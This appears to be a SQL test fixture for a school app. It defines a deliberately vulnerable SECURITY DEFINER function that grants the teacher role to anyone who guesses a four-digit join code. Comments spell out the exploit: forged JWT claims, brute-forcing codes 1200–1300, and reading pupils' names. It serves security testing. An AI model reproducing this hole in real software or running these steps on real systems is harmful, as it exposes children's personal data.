-- The code for joining is compared in a function that tells every guess and makes the caller a teacher.
-- about: join_school, school_users
-- as: hf_classrooms_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT count(join_school(lpad(n::text, 4, '0'))) FROM generate_series(1200, 1300) n;
-- exploit: SELECT full_name FROM pupils;
-- shows: Road-secret pupil
-- Parents and teachers join with the four figures that the school hands out.
CREATE FUNCTION join_school(code text) RETURNS uuid
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE school uuid;
BEGIN
  SELECT s.id INTO school FROM schools s WHERE s.parent_code = code;
  IF school IS NOT NULL THEN
    INSERT INTO school_users VALUES (school, auth.uid(), 'teacher') ON CONFLICT DO NOTHING;
  END IF;
  RETURN school;
END
$$;
